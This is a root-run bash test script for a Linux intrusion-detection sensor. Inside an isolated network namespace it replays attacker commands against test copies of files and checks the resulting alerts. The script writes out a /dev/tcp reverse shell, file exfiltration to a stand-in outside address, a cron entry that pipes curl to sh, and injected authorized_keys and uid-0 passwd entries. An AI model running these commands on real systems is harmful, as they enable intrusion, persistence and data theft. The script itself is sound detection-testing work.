#!/bin/bash
# stoat watch, end to end: start the live sensor with stoat's rules and a
# crown-jewel file, run real living-off-the-land commands inside a network
# namespace made here (loopback only, no route out) against files made here,
# stop it, and check the exact alerts, their ancestry, the incident and the
# byte counts. Then the same with the proc-connector fallback for what it can
# see. Nothing touches the host's real files: crontab and authorized_keys are
# test copies; every listener is inside the namespace, on 203.0.113.7 (a
# documentation address given to its loopback: outside the private ranges,
# as an attacker's server would be, yet nothing leaves the namespace).
# Last line: "watch: P passed, F failed".
set -u
cd "$(dirname "$0")/../.."
STOAT=${STOAT:-build/stoat}
PASS=0
FAIL=0
ok() { echo "ok   $*"; PASS=$((PASS + 1)); }
bad() { echo "FAIL $*"; FAIL=$((FAIL + 1)); }
finish() { echo "watch: $PASS passed, $FAIL failed"; [ "$FAIL" -eq 0 ]; exit $?; }

if [ "$(id -u)" -ne 0 ]; then
    echo "skip: stoat watch needs root (eBPF, proc connector, network namespaces)"
    finish
fi
command -v python3 >/dev/null || { bad "python3 missing (scripts/install-deps.sh installs it)"; finish; }

T=$(mktemp -d /tmp/stoat-watch.XXXXXX)
NS=stoat-watch-$$
WPID=
cleanup() {
    [ -n "$WPID" ] && kill "$WPID" 2>/dev/null
    ip netns del "$NS" 2>/dev/null
    [ -n "${STOAT_KEEP:-}" ] || rm -rf "$T"
}
trap cleanup EXIT
ip netns add "$NS" || { bad "ip netns add"; finish; }
ip netns exec "$NS" ip link set lo up
ip netns exec "$NS" ip addr add 203.0.113.7/32 dev lo
N() { ip netns exec "$NS" "$@"; }
# a listener is ready when the namespace shows it listening (a fixed sleep is
# not enough on a loaded machine: the client is refused and the listener waits)
wait_listen() {   # wait_listen PORT...
    local p
    for p in "$@"; do
        for _ in $(seq 1 100); do
            N ss -Hltn "sport = :$p" 2>/dev/null | grep -q . && break
            sleep 0.1
        done
    done
}

# fixtures: the jewels, test copies of persistence files
mkdir -p "$T/design/tapeout" "$T/home/eng/.ssh" "$T/spool"
head -c 65536 /dev/urandom > "$T/design/tapeout/n2-top.gds"
echo "N2 process spec rev C" > "$T/design/spec.txt"
: > "$T/home/eng/.ssh/authorized_keys"
: > "$T/spool/crontab"
cat > "$T/jewels.yml" <<EOF
paths: ['$T/design/*']
extensions: [gds]
transfer_window: 1h
EOF

# After loading, every thread of the watch runs as the default user (stoat
# when the host has one, else nobody) and keeps only CAP_DAC_READ_SEARCH
# (0x4), plus CAP_SYS_PTRACE (0x80004) in the fallback, in its effective
# and permitted sets, none bounding, inheritable or ambient; no_new_privs and
# the seccomp filter are set: an exec could not win anything back.
RUN_UID=$(id -u stoat 2>/dev/null || id -u nobody)
check_caps() {   # check_caps LABEL CAPS (the watch is $WPID)
    local t st k bad_tasks=""
    for t in /proc/"$WPID"/task/*; do
        st=$(cat "$t/status" 2>/dev/null) || continue
        for k in CapEff CapPrm; do
            echo "$st" | grep -q "^$k:[[:space:]]*$2$" || bad_tasks="$bad_tasks ${t##*/}:$k"
        done
        for k in CapBnd CapInh CapAmb; do
            echo "$st" | grep -q "^$k:[[:space:]]*0000000000000000$" || bad_tasks="$bad_tasks ${t##*/}:$k"
        done
        echo "$st" | grep -Eq "^Uid:[[:space:]]+$RUN_UID[[:space:]]+$RUN_UID[[:space:]]+$RUN_UID[[:space:]]+$RUN_UID$" ||
            bad_tasks="$bad_tasks ${t##*/}:Uid"
        echo "$st" | grep -q "^NoNewPrivs:[[:space:]]*1$" || bad_tasks="$bad_tasks ${t##*/}:NoNewPrivs"
        echo "$st" | grep -q "^Seccomp:[[:space:]]*2$" || bad_tasks="$bad_tasks ${t##*/}:Seccomp"
    done
    if [ -z "$bad_tasks" ] && [ -d /proc/"$WPID"/task ]; then
        ok "$1: runs as uid $RUN_UID with capabilities $2 only (CapEff/CapPrm; CapBnd/CapInh/CapAmb empty), NoNewPrivs, seccomp"
    else
        bad "$1: privileges not dropped:$bad_tasks $(grep -h '^Uid\|^Cap\|^NoNew\|^Seccomp' /proc/"$WPID"/status 2>/dev/null | tr '\n' ' ')"
    fi
}

run_scenario() {   # run_scenario OUTDIR [watch options...]
    local out=$1
    shift
    mkdir -p "$out"
    # the output's folder belongs to the user the watch becomes, as
    # /var/log/stoat does under the unit: a reload reopens -o as that user
    chown "$RUN_UID" "$out"
    "$STOAT" watch --jewels "$T/jewels.yml" --watch-path "$T/home" --watch-path "$T/spool" \
        --format jsonl -o "$out/alerts.jsonl" --record "$out/record.jsonl" "$@" 2>"$out/stderr" &
    WPID=$!
    local caps=0000000000000004
    case " $* " in *" --fallback "*) caps=0000000000080004 ;; esac
    # ready when it has said its mode; verifying the kernel programs takes
    # 10 s and more in a slow minute of a virtual machine: wait up to 60 s
    for _ in $(seq 1 600); do
        grep -q "mode:" "$out/stderr" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "mode:" "$out/stderr" || {
        bad "stoat watch $* did not start: $(cat "$out/stderr") ($(ps -o stat=,wchan= -p "$WPID" 2>/dev/null))"
        kill -9 "$WPID" 2>/dev/null # never left running into the next part (one sat 9 minutes in the kernel)
        return 1
    }
    check_caps "stoat watch $* after loading" $caps

    # a listener that takes uploads and counts the bytes
    N python3 -c '
import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",9000)); s.listen(8)
for _ in range(2):
    c,_=s.accept(); n=0
    while True:
        d=c.recv(65536)
        if not d: break
        n+=len(d)
    c.close(); print(n, flush=True)
' > "$out/received" &
    local LPID=$!
    # and one that plays the attacker's end of a reverse shell
    N python3 -c '
import socket
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",4444)); s.listen(1)
c,_=s.accept(); c.sendall(b"id\nexit\n"); c.settimeout(3)
try:
    while c.recv(4096): pass
except Exception: pass
' &
    local RPID=$!
    wait_listen 9000 4444

    # discovery burst
    N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
    # rules reloaded while events flow (the events after it must still alert);
    # the output file rotated just before, as logrotate would: SIGHUP reopens it
    mv "$out/alerts.jsonl" "$out/alerts.before-rotation"
    kill -HUP "$WPID"
    for _ in $(seq 1 100); do
        grep -q "rules reloaded" "$out/stderr" 2>/dev/null && break
        sleep 0.1
    done
    check_caps "stoat watch $* after a SIGHUP reload" $caps
    # staging of the jewels
    N bash -c "cd '$T' && tar czf /tmp/.stage-$$.tgz design && base64 -w0 design/tapeout/n2-top.gds > '$T/b64.txt'"
    # an upload to a closed port: nothing is sent
    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9009/up >/dev/null 2>&1
    # exfiltration: the layout, raw over TCP (exact byte count), then a curl upload
    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/203.0.113.7/9000"
    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9000/up >/dev/null 2>&1
    # a reverse shell
    N bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >/dev/null 2>&1
    # persistence on test copies
    N bash -c "echo '* * * * * curl -s http://127.0.0.1:9000/x | sh' >> '$T/spool/crontab'"
    N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHacker attacker@x' >> '$T/home/eng/.ssh/authorized_keys'"
    rm -f "/tmp/.stage-$$.tgz"
    wait "$LPID" "$RPID" 2>/dev/null
    [ -n "${STORE_DB:-}" ] && live_store "$STORE_DB"
    sleep 1
    kill -TERM "$WPID"
    wait "$WPID"
    local rc=$?
    WPID=
    [ "$rc" -eq 0 ] && ok "stoat watch $* stopped cleanly on SIGTERM" || bad "stoat watch $* exited $rc"
    # the alerts after the rotation are in the reopened file; the checks
    # below read both parts as one
    [ -s "$out/alerts.jsonl" ] && ok "stoat watch $* wrote to the reopened -o file after SIGHUP" ||
        bad "stoat watch $* wrote nothing to -o after the rotation"
    cat "$out/alerts.jsonl" >>"$out/alerts.before-rotation"
    mv "$out/alerts.before-rotation" "$out/alerts.jsonl"
    grep -q "rules reloaded" "$out/stderr" && ok "stoat watch $* reloaded its rules on SIGHUP" ||
        bad "stoat watch $* did not reload on SIGHUP: $(cat "$out/stderr")"
    return 0
}

# stoat watch --db: while the watch still runs, `stoat serve` on the same
# store answers with the alerts it wrote (each is committed within a poll,
# not when a batch fills or the next alert comes: the last one is asked
# for). Waits for it at most 20 s; never times anything.
live_store() {   # live_store DB
    local db=$1 sout=$T/serve.out port= n=0
    "$STOAT" serve "$db" --listen 127.0.0.1:0 >"$sout" 2>&1 &
    local SPID=$!
    for _ in $(seq 1 100); do
        port=$(sed -n 's/.*127\.0\.0\.1:\([0-9]*\)\/$/\1/p' "$sout" 2>/dev/null)
        [ -n "$port" ] && break
        sleep 0.1
    done
    if [ -z "$port" ]; then
        bad "stoat serve on the watch's store did not start: $(cat "$sout")"
    else
        for _ in $(seq 1 100); do
            n=$(curl -s "http://127.0.0.1:$port/api/alerts?q=authorized" |
                python3 -c 'import json,sys; print(len(json.load(sys.stdin)["alerts"]))' 2>/dev/null)
            [ "${n:-0}" -gt 0 ] && break
            sleep 0.2
        done
        [ "${n:-0}" -gt 0 ] && ok "stoat serve shows the last alert of the running stoat watch --db (authorized_keys)" ||
            bad "no alert of the running watch reached the API of stoat serve"
    fi
    kill "$SPID" 2>/dev/null
    wait "$SPID" 2>/dev/null
}

# After the watch: the store holds every alert and incident it printed.
check_store() {   # check_store OUTDIR DB
    python3 - "$1/alerts.jsonl" "$2" <<'PY'
import json, sqlite3, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
db = sqlite3.connect(sys.argv[2])
na = db.execute("SELECT count(*) FROM alerts").fetchone()[0]
ni = db.execute("SELECT count(*) FROM incidents").fetchone()[0]
run = db.execute("SELECT producer, status FROM runs").fetchall()
want_a = sum(1 for l in lines if l["kind"] == "alert")
want_i = sum(1 for l in lines if l["kind"] == "incident")
print(("ok  " if na == want_a and na > 0 else "FAIL") + " store: every alert of the watch stored (%d of %d)" % (na, want_a))
print(("ok  " if ni == want_i else "FAIL") + " store: every incident stored (%d of %d)" % (ni, want_i))
print(("ok  " if run == [("watch", "done")] else "FAIL") + " store: the run recorded as a finished watch %s" % run)
PY
}

check() {   # check OUTDIR MODE: python assertions, one line each
    python3 - "$1" "$2" "$T" <<'PY'
import json, sys, os
out, mode, T = sys.argv[1], sys.argv[2], sys.argv[3]
alerts = [json.loads(l) for l in open(os.path.join(out, "alerts.jsonl"))]
record = [json.loads(l) for l in open(os.path.join(out, "record.jsonl"))]
received = [int(x) for x in open(os.path.join(out, "received")).read().split()]
res = []
def check(name, cond, detail=""):
    res.append(("ok  " if cond else "FAIL") + " " + mode + ": " + name + ("" if cond else "  -- " + detail))
titles = {}
for a in alerts:
    if a["kind"] == "alert":
        titles.setdefault(a["rule"]["title"], []).append(a)
def alert(t):
    return titles.get(t, [])
size = os.path.getsize(os.path.join(T, "design/tapeout/n2-top.gds"))
cmds = [r.get("CommandLine", "") for r in record if r.get("EventID") == "1"]
if mode == "ebpf":
    check("every exec recorded with its argv (tar of the jewels)",
          any("tar czf" in c and "design" in c for c in cmds), str(len(cmds)) + " execs")
    check("the discovery burst recorded",
          all(any(c.startswith(x) for c in cmds) for x in ("id", "uname -a", "whoami")))
else:
    # the proc connector reports every exec, but a process that exits before
    # /proc is read loses its argv (the documented race): those are marked
    check("every exec reported (the shells of the scenario at least)", len(cmds) >= 10, str(len(cmds)))
if mode == "ebpf":
    closes = [r for r in record if r.get("EventID") == "3" and r.get("BytesSent") and r.get("DestinationPort") == "9000"]
    check("bytes sent at close equal the file sent over /dev/tcp (%d)" % size,
          any(int(r["BytesSent"]) == size for r in closes), str([r.get("BytesSent") for r in closes]))
    check("the listener received the same count", size in received, str(received))
    opens = [r for r in record if r.get("EventID") == "11" and r.get("TargetFilename", "").endswith("n2-top.gds")]
    check("opens of the watched layout recorded", len(opens) > 0)
    rs = alert("Interactive Shell Bound To A /dev/tcp Socket") + alert("Reverse Shell Over /dev/tcp From bash")
    check("reverse shell alerted", len(rs) > 0, str(sorted(titles)))
    ex = alert("Data Sent Out After Crown-Jewel Access")
    check("data sent out after crown-jewel access (critical)", any(a["level"] == "critical" for a in ex),
          str(sorted(titles)))
    check("the exfiltration alert carries its process tree",
          any(len(a.get("ancestry", [])) >= 2 for a in ex), str([a.get("ancestry") for a in ex]))
    check("no data sent out for the upload to a closed port",
          ex and not any(a["event"].get("DestinationPort") == "9009" for a in ex),
          str([(a["event"].get("DestinationPort"), a["event"].get("BytesSent")) for a in ex]))
    check("every data-sent-out alert names bytes sent to the outside address",
          ex and all(a["event"].get("DestinationIp") == "203.0.113.7" and int(a["event"].get("BytesSent", 0)) > 0
                     for a in ex), str([a["event"] for a in ex]))
    incs_ev = [e for a in alerts if a["kind"] == "incident" for e in a.get("evidence", [])]
    check("the incident's evidence names the bytes of the layout sent out (%d)" % size,
          any(e["tactic"] == "exfiltration" and "65.5 KB sent to 203.0.113.7:9000" in e["text"] for e in incs_ev),
          str(incs_ev))
    check("and that the upload to the closed port sent nothing",
          any(e["tactic"] is None and "nothing sent by curl" in e["text"] and ":9009" in e["text"] for e in incs_ev),
          str(incs_ev))
arch = alert("Crown Jewels Archived Or Encoded")
if mode == "ebpf":
    check("base64 of a layout alerted as jewels encoded",
          any(a["event"].get("Image", "").endswith("/base64") for a in arch), str(sorted(titles)))
    check("the encoder alert's ancestry names bash",
          any(any(p.get("image", "").endswith("/bash") for p in a.get("ancestry", [])) for a in arch),
          str([a.get("ancestry") for a in arch]))
# tar named the folder relatively (cd, then "tar czf x design"): its opens of
# the watched files are what give it away
opened = alert("Crown Jewel File Opened By An Unusual Process")
check("tar reading the jewels alerted from its file opens",
      any(a["event"].get("Image", "").endswith("/tar") for a in opened), str(sorted(titles)))
check("authorized_keys written alerted", any("authorized_keys" in t or "Authorized" in t for t in titles),
      str(sorted(titles)))
if mode == "ebpf":
    check("crontab written alerted", any("ron" in t for t in titles), str(sorted(titles)))
else:
    # the alert comes from the command line, which the fallback may miss (race);
    # the write itself it always sees
    check("the write to the crontab copy recorded",
          any(r.get("EventID") == "11" and r.get("TargetFilename", "").endswith("/spool/crontab") for r in record))
import re
rfc3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z$")
times = [a.get("timestamp") for a in alerts if a["kind"] == "alert" and a.get("timestamp")] + \
        [a[k] for a in alerts if a["kind"] == "incident" for k in ("first", "last") if a.get(k)]
check("every time in the JSON lines is RFC 3339 UTC (%d)" % len(times),
      times and all(rfc3339.match(t) for t in times), str([t for t in times if not rfc3339.match(t)][:5]))
incs = [a for a in alerts if a["kind"] == "incident"]
check("one incident for the host, high or critical", len(incs) >= 1 and incs[0]["level"] in ("high", "critical"),
      str([(i["title"], i["score"]) for i in incs]))
print("\n".join(res))
PY
}

# Replay: a live run captures the sensor's raw records (--capture); replaying
# the capture (--replay, with no capabilities at all) must give the same
# events and the same alerts, byte for byte. A run of its own, without the
# SIGHUP of the scenario: a reload starts the correlations anew, which a
# replay cannot know of.
replay_check() {
    local out=$T/replay
    mkdir -p "$out"
    "$STOAT" watch --jewels "$T/jewels.yml" --watch-path "$T/home" --format jsonl -o "$out/live.jsonl" \
        --record "$out/live-record.jsonl" --capture "$out/capture" 2>"$out/stderr" &
    WPID=$!
    for _ in $(seq 1 600); do
        grep -q "mode:" "$out/stderr" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "mode: ebpf" "$out/stderr" || {
        bad "stoat watch --capture did not start in eBPF mode: $(cat "$out/stderr")"
        kill -9 "$WPID" 2>/dev/null
        return
    }
    N python3 -c '
import socket
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",9001)); s.listen(2)
s.settimeout(60)
for _ in range(2):
    c,_=s.accept()
    while c.recv(65536): pass
    c.close()
' &
    local LPID=$!
    wait_listen 9001
    N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
    N bash -c "cd '$T' && tar czf /tmp/.stage-r$$.tgz design && base64 -w0 design/tapeout/n2-top.gds >/dev/null"
    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/203.0.113.7/9001"
    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9001/up >/dev/null 2>&1
    N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIReplay replay@x' >> '$T/home/eng/.ssh/authorized_keys'"
    rm -f "/tmp/.stage-r$$.tgz"
    wait "$LPID" 2>/dev/null
    sleep 0.5
    kill -TERM "$WPID"
    wait "$WPID"
    WPID=
    # no capabilities at all: a replay reads a file
    setpriv --inh-caps=-all --bounding-set=-all --no-new-privs -- \
        "$STOAT" watch --replay "$out/capture" --jewels "$T/jewels.yml" --format jsonl -o "$out/replay.jsonl" \
        --record "$out/replay-record.jsonl" 2>"$out/replay.stderr"
    local rc=$?
    [ "$rc" -eq 0 ] && grep -q "mode: replay of" "$out/replay.stderr" && ok "replay: stoat watch --replay ran without capabilities" ||
        bad "replay: stoat watch --replay exited $rc: $(cat "$out/replay.stderr")"
    local n
    n=$(grep -c '"kind":"alert"' "$out/live.jsonl")
    [ "$n" -ge 3 ] && ok "replay: the live run alerted ($n alerts)" || bad "replay: the live run gave $n alerts"
    cmp -s "$out/live.jsonl" "$out/replay.jsonl" && ok "replay: alerts and incidents identical to the live run's" ||
        bad "replay: alerts differ from the live run's: $(diff "$out/live.jsonl" "$out/replay.jsonl" | head -c 600)"
    cmp -s "$out/live-record.jsonl" "$out/replay-record.jsonl" &&
        ok "replay: every event identical to the live run's ($(wc -l < "$out/live-record.jsonl") events)" ||
        bad "replay: the events differ from the live run's: $(diff "$out/live-record.jsonl" "$out/replay-record.jsonl" | head -c 600)"
}

# The default file set, the environment and pipelines, end to end: the
# alerts stoat's rules raise on tests/sensor/persist.sh (copies of
# /etc/passwd, /etc/cron.d and /root/.bashrc bind-mounted in a private mount
# namespace; a test authorized_keys added with --watch-file).
persist_check() {
    local out=$T/persist P=$T/p
    mkdir -p "$out" "$P/home/alice/.ssh"
    chown "$RUN_UID" "$out"
    "$STOAT" watch --watch-file "$P/home/alice/.ssh/authorized_keys" --format jsonl -o "$out/alerts.jsonl" \
        --record "$out/record.jsonl" 2>"$out/stderr" &
    WPID=$!
    # loading and registering the default file set takes longer on a loaded machine: wait up to 60 s
    for _ in $(seq 1 600); do
        grep -q "mode:" "$out/stderr" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "mode: ebpf" "$out/stderr" || {
        bad "persist: stoat watch did not start in eBPF mode: $(cat "$out/stderr")"
        kill -9 "$WPID" 2>/dev/null
        return
    }
    N bash tests/sensor/persist.sh "$P" 18092 18093
    sleep 1
    kill -TERM "$WPID"
    wait "$WPID"
    WPID=
    python3 - "$out" "$P" <<'PY' > "$T/persist.res"
import json, os, sys
out, P = sys.argv[1], sys.argv[2]
alerts = [json.loads(l) for l in open(os.path.join(out, "alerts.jsonl")) if '"kind":"alert"' in l]
record = [json.loads(l) for l in open(os.path.join(out, "record.jsonl"))]
def fired(title, **ev):
    return [a for a in alerts if a["rule"]["title"] == title and all(a["event"].get(k) == v for k, v in ev.items())]
res = []
def check(name, cond, detail=""):
    res.append(("ok  " if cond else "FAIL") + " persist: " + name + ("" if cond else "  -- " + detail))
titles = sorted({a["rule"]["title"] for a in alerts})
if os.path.exists("/root/.bashrc"):
    check("shell redirect into /root/.bashrc alerted",
          fired("Shell Start-up File Written By A Shell Redirect", TargetFilename="/root/.bashrc"), str(titles))
check("uid-0 account appended to /etc/passwd by a shell alerted",
      fired("Account Database Changed Outside The Account Tools", TargetFilename="/etc/passwd"), str(titles))
check("chmod 0666 /etc/passwd alerted (file_change, EventID 1003)",
      fired("Account Or Sudoers File Made Readable Or Writable By Others", TargetFilename="/etc/passwd", Mode="0666"),
      str(titles))
cron = [a["event"].get("FileOperation", "open") for a in fired("Cron File Written By A Non-Package Process")]
check("cron job created and renamed into /etc/cron.d alerted (open and rename)",
      "open" in cron and "rename" in cron, str(cron) + " " + str(titles))
check("the delete recorded as Sysmon 23 (file_delete)",
      any(r.get("EventID") == "23" and r.get("TargetFilename") == "/etc/cron.d/stoat-job" for r in record))
check("key renamed into a --watch-file authorized_keys alerted",
      fired("SSH authorized_keys File Written", TargetFilename=P + "/home/alice/.ssh/authorized_keys",
            FileOperation="rename"), str(titles))
check("LD_PRELOAD at exec alerted", fired("Program Started With LD_PRELOAD Or LD_AUDIT In Its Environment"), str(titles))
check("LD_PRELOAD from a hidden folder alerted (high)",
      [a for a in fired("Library Preloaded From A World-Writable Or Hidden Location") if a["level"] == "high"], str(titles))
dl = fired("Shell Or Interpreter Reading A Download From Its Standard Input")
check("curl | bash alerted, whatever the command line says",
      any(a["event"].get("StdinFromImage", "").endswith("/curl") and a["event"].get("Image", "").endswith("/bash")
          for a in dl), str(titles))
check("tar | nc alerted", fired("Archive Piped Into A Network Tool"), str(titles))
check("curl | bash alerted once: the script's own command (id) inherits the pipe and is no new reader",
      len(dl) == 1, str([(a["event"].get("Image"), a["event"].get("CommandLine")) for a in dl]))
check("no variable outside the allow-list in any event",
      not any("hunter2" in json.dumps(r) for r in record))
print("\n".join(res))
PY
    cat "$T/persist.res"
}

# The default file set in the fallback mode (fanotify; it once had none):
# stoat watch --fallback runs in a private mount namespace where /etc/passwd,
# /etc/cron.d and /root/.bashrc are bind mounts of copies under T (as
# persist.sh makes them), so its marks and the writes meet on the copies and
# no real file of the host changes.
fallback_persist_check() {
    local out=$T/fbpersist F=$T/fbfake
    mkdir -p "$out" "$F/cron.d"
    chown "$RUN_UID" "$out"
    cp /etc/passwd "$F/passwd"
    : > "$F/bashrc"
    [ -f /root/.bashrc ] && cp /root/.bashrc "$F/bashrc"
    unshare -m --propagation private bash -s "$STOAT" "$out" "$F" <<'EOF'
STOAT=$1 out=$2 F=$3
mount --bind "$F/cron.d" /etc/cron.d
mount --bind "$F/passwd" /etc/passwd
[ -f /root/.bashrc ] && mount --bind "$F/bashrc" /root/.bashrc
"$STOAT" watch --fallback --format jsonl -o "$out/alerts.jsonl" --record "$out/record.jsonl" 2>"$out/stderr" &
W=$!
for _ in $(seq 1 600); do
    grep -q "mode:" "$out/stderr" 2>/dev/null && break
    sleep 0.1
done
[ -f /root/.bashrc ] && echo 'echo stoat-test-fallback' >> /root/.bashrc
echo 'stoatfb:x:0:0::/root:/bin/bash' >> /etc/passwd
printf '* * * * * root id\n' > /etc/cron.d/stoat-fb-job
sleep 1
kill -TERM "$W"
wait "$W"
EOF
    python3 - "$out" <<'PY' > "$T/fbpersist.res"
import json, os, sys
out = sys.argv[1]
alerts = [json.loads(l) for l in open(os.path.join(out, "alerts.jsonl")) if '"kind":"alert"' in l]
def fired(title, **ev):
    return [a for a in alerts if a["rule"]["title"] == title and all(a["event"].get(k) == v for k, v in ev.items())]
res = []
def check(name, cond, detail=""):
    res.append(("ok  " if cond else "FAIL") + " fallback persist: " + name + ("" if cond else "  -- " + detail))
titles = sorted({a["rule"]["title"] for a in alerts})
stderr = open(os.path.join(out, "stderr")).read()
check("stoat watch ran in the fallback mode", "mode: fallback" in stderr, stderr[:300])
if os.path.exists("/root/.bashrc"):
    check("shell redirect into /root/.bashrc alerted",
          fired("Shell Start-up File Written By A Shell Redirect", TargetFilename="/root/.bashrc"), str(titles))
check("uid-0 account appended to /etc/passwd by a shell alerted",
      fired("Account Database Changed Outside The Account Tools", TargetFilename="/etc/passwd"), str(titles))
check("cron job written into /etc/cron.d alerted",
      fired("Cron File Written By A Non-Package Process", TargetFilename="/etc/cron.d/stoat-fb-job"), str(titles))
print("\n".join(res))
PY
    cat "$T/fbpersist.res"
}

STORE_DB=$T/ebpf/store.db
run_scenario "$T/ebpf" --db "$STORE_DB" && check "$T/ebpf" ebpf > "$T/ebpf.res" && cat "$T/ebpf.res" &&
    check_store "$T/ebpf" "$STORE_DB" > "$T/store.res" && cat "$T/store.res"
STORE_DB=
run_scenario "$T/fallback" --fallback && check "$T/fallback" fallback > "$T/fallback.res" && cat "$T/fallback.res"
replay_check
persist_check
fallback_persist_check
for f in "$T/ebpf.res" "$T/store.res" "$T/fallback.res" "$T/persist.res" "$T/fbpersist.res"; do
    [ -f "$f" ] || continue
    PASS=$((PASS + $(grep -c '^ok ' "$f")))
    FAIL=$((FAIL + $(grep -c '^FAIL' "$f")))
done
grep -h "lost" "$T"/*/stderr 2>/dev/null | sed 's/^/    /'
finish
